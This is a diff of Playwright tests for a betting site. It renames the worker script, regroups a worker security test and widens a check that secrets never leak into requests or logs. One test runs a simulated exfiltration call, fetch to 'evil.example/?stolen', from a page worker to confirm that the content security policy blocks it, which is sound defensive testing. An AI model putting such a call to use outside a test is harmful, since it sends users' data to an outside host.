@@ -67,7 +67,7 @@ test("a whole bet breaks no rule of the page or of a worker, and the feed outliv
   await dev.changeOutcome({ ...live, odds: 7.77, active: true });
   await expect(page.locator("main")).toContainText("7.77");
   expect(eventsOf(await keptLog(page), "FeedLost")).toEqual([]);
-  expect(workers.started.filter((script) => /\/feed\.worker-/.test(script))).toHaveLength(1);
+  expect(workers.started.filter((script) => /\/client\.worker-/.test(script))).toHaveLength(1);
   expect(workers.complaints).toEqual([]);
 });
 
@@ -118,12 +118,17 @@ test.describe("what got in", () => {
     });
   });
 
-  test("[X13] code in a worker can send nothing away", async ({ page, workers }) => {
+  test.describe("in a worker", () => {
+    // Playwright runs code in the worker of one page.
+    test.use({ ownClient: true });
+
+    test("[X13] code in a worker can send nothing away", async ({ page, workers }) => {
     await page.goto("/Sport/LiveList");
     await expect.poll(() => page.workers().length).toBe(1);
     await page.workers()[0]?.evaluate(() => fetch("https://evil.example/?stolen").catch(() => undefined));
-    await expect.poll(() => workers.complaints.join("\n")).toMatch(/^worker .*\/feed\.worker-.*: refused: connect-src https:\/\/evil\.example/m);
+    await expect.poll(() => workers.complaints.join("\n")).toMatch(/^worker .*\/client\.worker-.*: refused: connect-src https:\/\/evil\.example/m);
     expect(workers.requests.join("\n")).not.toContain("evil.example");
+    });
   });
 
   test("[X7] nobody can frame the site", async ({ page, engine }) => {
@@ -134,7 +139,7 @@ test.describe("what got in", () => {
   });
 });
 
-test("[A11, A11 deposit] a secret is in no address, no console line, no log and no recording", async ({ player, page }, testInfo) => {
+test("[A11, A11 deposit] a secret is in no address, no console line, no log and no recording", async ({ player, page, workers }, testInfo) => {
   const wrong = "Canary-5f2c-wrong-password";
   const lines: string[] = [];
   const addresses: string[] = [];
@@ -165,7 +170,7 @@ test("[A11, A11 deposit] a secret is in no address, no console line, no log and 
   const log = await keptLog(page);
   expect(flawsOf(log)).toEqual([]);
 
-  const places = { addresses: addresses.join("\n"), lines: lines.join("\n"), log: JSON.stringify(log), recording: readFileSync(file, "utf8") };
+  const places = { addresses: [...addresses, ...workers.requests].join("\n"), lines: [...lines, ...workers.complaints].join("\n"), log: JSON.stringify(log), recording: readFileSync(file, "utf8") };
   expect(places.recording).toContain("place-bet");
   const secrets = { wrong, password: demoLogin.password, token, mobile: demoLogin.mobile.slice(1) };
   for (const [where, text] of Object.entries(places))
